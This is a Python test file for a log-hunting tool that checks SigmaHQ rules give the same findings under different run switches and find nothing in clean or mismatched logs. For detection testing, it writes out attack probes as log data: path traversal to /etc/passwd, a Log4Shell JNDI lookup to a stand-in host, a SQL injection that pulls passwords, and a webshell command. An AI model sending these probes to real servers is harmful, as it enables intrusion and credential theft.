"""Ways to run that must not change what SigmaHQ's rules find in real evidence; and where none of
them may find anything."""
import pathlib

import pytest
from conftest import (WEB_RULES, WINDOWS_RULES, assert_same, generate, hunt, iis, page_answered,
                      rule_options)

PATIENCE = {"timeout": 600}  # seconds: --no-prefilter is slow

SWITCHES = [["--no-prefilter"], ["--no-memo"], ["--no-prefilter", "--no-memo"], ["-j", "1"],
            ["-j", "4"], ["--part-size", "65536"],
            ["--part-size", "65536", "-j", "4", "--no-prefilter", "--no-memo"]]


@pytest.fixture(name="event_logs", scope="module")
def fixture_event_logs(sigmahq, evtx_samples):
    """Rules and evidence of a hunt in event logs, as arguments."""
    return [*rule_options(sigmahq, WINDOWS_RULES), evtx_samples, sigmahq / "regression_data"]


@pytest.fixture(name="in_event_logs", scope="module")
def fixture_in_event_logs(event_logs):
    done = hunt(*event_logs, **PATIENCE)
    assert len(done.findings) > 2000
    assert len({r["rule.id"] for r in done.findings}) > 400
    return done


def assert_same_findings(done, expected, switches):
    """All records are the same; of a file in parts, damage has a limit and a host of its own."""
    if "--part-size" in switches:
        done, expected = (Findings(r.findings) for r in (done, expected))
    assert_same(done, expected)


class Findings:
    """The findings of a run in the place of all its records."""

    def __init__(self, records):
        self.records = records


@pytest.mark.parametrize("switches", SWITCHES, ids=" ".join)
def test_event_logs(event_logs, in_event_logs, switches):
    assert_same_findings(hunt(*switches, *event_logs, **PATIENCE), in_event_logs, switches)


@pytest.fixture(name="text_logs", scope="module")
def fixture_text_logs(corpora, sigmahq, tmp_path_factory):
    """The same for text logs: real ones, and generated ones with an attack in them, since few of
    SigmaHQ's rules match the real ones."""
    made = tmp_path_factory.mktemp("made")
    generate(made / "server", "proxyshell", size="4M")
    probes = ["/cgi-bin/../../../../etc/passwd", "/?x=${jndi:ldap://192.0.2.1/a}",
              "/index.php?q=1+UNION+SELECT+password+from+users", "/shell.aspx?cmd=whoami"]
    rows = [page_answered(f"2021-03-03T07:{minute:02}:00", cs_uri_stem=page.split("?")[0],
                          cs_uri_query=page.partition("?")[2] or "-")
            for minute, page in enumerate(probes * 10)]
    iis(made / "probes" / "u_ex210303.log", rows)
    return [*rule_options(sigmahq, WEB_RULES), "--with-builtin", corpora / "real-incident",
            corpora / "real-logs", made]


@pytest.fixture(name="in_text_logs", scope="module")
def fixture_in_text_logs(text_logs):
    done = hunt(*text_logs, **PATIENCE)
    assert len({r["rule.id"] for r in done.findings}) > 15
    return done


@pytest.mark.parametrize("switches", SWITCHES, ids=" ".join)
def test_text_logs(text_logs, in_text_logs, switches):
    assert_same(hunt(*switches, *text_logs, **PATIENCE), in_text_logs)


# ---- nothing to find ----

def test_built_in_rules_find_only_what_is_there(evtx_samples, sigmahq):
    """502 logs of attacks, few of them on a web server: only these logs show what the built-in
    rules ask for. Logs that were cleared raise no grade."""
    done = hunt(evtx_samples, sigmahq / "regression_data")
    graded = {pathlib.PurePath(r["log.file.path"]).name for r in done.findings
              if r["hauberk.grade"] != "N"}
    assert graded == {
        "sysmon_10_11_lsass_memdump.evtx", "ppl_bypass_ppldump_knowdll_hijack_sysmon_security.evtx",
        "PanacheSysmon_vs_AtomicRedTeam01.evtx", "sysmon_10_1_memdump_comsvcs_minidump.evtx",
        "LM_typical_IIS_webshell_sysmon_1_10_traces.evtx",
        "discovery_sysmon_1_iis_pwd_and_config_discovery_appcmd.evtx",
        "69ca12af-119d-44ed-b50f-a47af0ebc364.evtx", "aba15bdd-657f-422a-bab3-ac2d2a0d6f1c.evtx"}
    assert {r["hauberk.fields"]["EventID"] for r in done.findings
            if r["hauberk.grade"] == "N"} == {"1102", "104"}


def test_rules_for_event_logs_find_nothing_in_text_logs(corpora, sigmahq, tmp_path):
    generate(tmp_path / "ev", "proxyshell")
    done = hunt(*rule_options(sigmahq, ["rules/windows", "rules-threat-hunting/windows"]),
                tmp_path / "ev", corpora / "real-incident", corpora / "real-logs")
    assert not done.findings


def test_rules_for_text_logs_find_nothing_in_event_logs(evtx_samples, sigmahq):
    done = hunt(*rule_options(sigmahq, ["rules/web"]), evtx_samples, sigmahq / "regression_data")
    assert not done.findings


def test_clean_server_gives_no_grave_finding(sigmahq, tmp_path):
    """Whatever SigmaHQ's rules say of honest requests, the verdict must not follow them."""
    hosts = generate(tmp_path / "ev", "clean")
    done = hunt(*rule_options(sigmahq, [*WEB_RULES, "rules/windows"]), "--with-builtin",
                tmp_path / "ev")
    assert done.grades == {host: "N" for host in hosts}
